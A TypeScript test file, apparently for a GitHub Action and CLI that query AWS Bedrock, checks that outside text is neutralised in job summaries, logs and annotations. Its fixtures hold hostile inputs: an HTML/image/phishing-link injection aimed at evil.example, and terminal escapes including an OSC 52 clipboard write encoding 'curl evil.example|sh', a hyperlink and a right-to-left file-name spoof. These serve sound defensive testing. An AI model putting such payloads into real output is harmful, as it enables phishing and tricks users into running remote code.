/**
 * Issue 28, defects 3 and 4: text from outside (an env-file value a pull request can change, a
 * flag, an AWS answer) is data. In the job summary it never becomes markup (no HTML, no image,
 * no link); on a terminal and in annotations it never becomes control (no escape sequence, no
 * clipboard write, no screen clear, no hyperlink, no direction override).
 */
import { rest, useFakeAws } from '../harness/fake-aws.js'
import { runAction, leakedSecrets, type ActionRun } from '../harness/run-action.js'
import { healthyAccount } from '../harness/e2e-world.js'
import { OIDC_SESSION_ENV } from '../harness/scenarios.js'
import { SONNET_45 } from '../harness/fake-bedrock.js'

const fake = useFakeAws(healthyAccount)

/** A model ID a pull request could write into the env file: HTML, an image and a link. */
const MARKUP_MODEL = `us.${SONNET_45}</details><img src=https://evil.example/p.png>[Sign in again](https://evil.example/login)`
/** OSC 52 (clipboard write), CSI 2J (clear screen), OSC 8 (hyperlink), U+202E (right-to-left). */
const CONTROL_TEXT =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[2J\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\ \u202egnp.exe'
const CONTROLS =
  // eslint-disable-next-line no-control-regex -- what no output may hold
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

/** Markup that would render: an HTML tag, an image, a link or an autolink. */
function liveMarkup(markdown: string): string[] {
  // Drop what GitHub shows as text: code spans and fenced blocks, and backslash-escaped characters.
  const text = markdown
    .replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '')
    .replace(/(`+)[^`]*?\1/g, '')
    .replace(/\\./g, '')
  const ours = /^<details><summary>|<\/summary>$|^<\/details>$|<\/?sub>/gm
  return [
    ...(text.replace(ours, '').match(/<\/?[a-z][^>]*>/gi) ?? []),
    ...(text.match(/!?\[[^\]]*\]\(https:\/\/evil[^)]*\)/g) ?? [])
  ]
}

async function action(
  inputs: Record<string, string>,
  files: Record<string, string> = {}
): Promise<ActionRun> {
  return runAction({
    endpoints: fake.env,
    env: OIDC_SESSION_ENV,
    inputs: { 'aws-region': 'us-east-1', ...inputs },
    files
  })
}

describe('the job summary shows outside text as text', () => {
  it('a model ID from the env file with HTML, an image and a link renders as text', async () => {
    const run = await action({ 'env-file': '.env' }, { '.env': `BEDROCK_MODEL=${MARKUP_MODEL}\n` })
    expect(run.blocked).toEqual([])
    expect(run.summary).toContain('evil.example') // still shown, as text
    expect(liveMarkup(run.summary)).toEqual([])
    expect(leakedSecrets(run)).toEqual([])
  })
})

describe('terminal escapes and direction overrides never reach a log or a terminal', () => {
  const ERROR = rest.error(
    'ValidationException',
    `The provided model identifier is invalid. ${CONTROL_TEXT}`,
    400
  )

  it('an AWS message with OSC 52, CSI 2J, OSC 8 and U+202E loses them in annotations, outputs and the report', async () => {
    fake.handle({ 'bedrock:GetInferenceProfile': ERROR, 'bedrock:GetFoundationModel': ERROR })
    const run = await action({ 'model-id': `us.${SONNET_45}` })
    expect(run.annotations.length).toBeGreaterThan(0)
    for (const a of run.annotations) {
      expect(`${a.title ?? ''}${a.message}`).not.toMatch(CONTROLS)
    }
    expect(run.stdout).not.toMatch(CONTROLS)
    expect(JSON.stringify(run.outputs)).not.toMatch(CONTROLS)
    expect(run.summary).not.toMatch(CONTROLS)
    // The report file holds no control character either, not even escaped by JSON.
    expect(JSON.stringify(run.report)).not.toMatch(/\\u00(1b|07|9b)|\\u202e/i)
  })

  it('the CLI prints an AWS message, a flag and an env-file value without their control characters', async () => {
    fake.handle({ 'bedrock:GetInferenceProfile': ERROR, 'bedrock:GetFoundationModel': ERROR })
    for (const args of [[], ['--json'], ['--debug']]) {
      const run = await runAction({
        script: 'cli.js',
        args: ['--region', 'us-east-1', '--model', `us.${SONNET_45}${CONTROL_TEXT}`, ...args],
        endpoints: fake.env,
        env: {
          ...OIDC_SESSION_ENV,
          GITHUB_ACTIONS: undefined,
          GITHUB_OUTPUT: undefined,
          GITHUB_STEP_SUMMARY: undefined
        },
        files: {
          '.insightworker/.env': `AWS_PROFILE=dev${CONTROL_TEXT}\nBEDROCK_MODEL=x${CONTROL_TEXT}\n`
        }
      })
      expect(run.stdout.length).toBeGreaterThan(0)
      expect(run.stdout).not.toMatch(CONTROLS)
      expect(run.stderr).not.toMatch(CONTROLS)
    }
  })

  it('a settings error naming a hostile flag value prints it without control characters', async () => {
    const run = await runAction({
      script: 'cli.js',
      args: ['--timeout', `5${CONTROL_TEXT}`],
      env: { GITHUB_ACTIONS: undefined }
    })
    expect(run.exitCode).toBe(2)
    expect(run.stderr).not.toMatch(CONTROLS)
  })
})
